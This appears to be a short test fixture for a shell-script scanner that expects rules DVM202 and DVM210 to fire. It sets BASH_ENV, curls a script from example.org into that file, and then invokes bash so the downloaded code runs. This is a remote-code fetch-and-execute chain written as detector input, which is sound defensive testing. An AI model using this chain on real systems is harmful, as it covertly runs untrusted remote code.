# expect: DVM202 DVM210
BASH_ENV=/tmp/e
curl -fsSLo /tmp/e https://example.org/i.sh
bash -c true
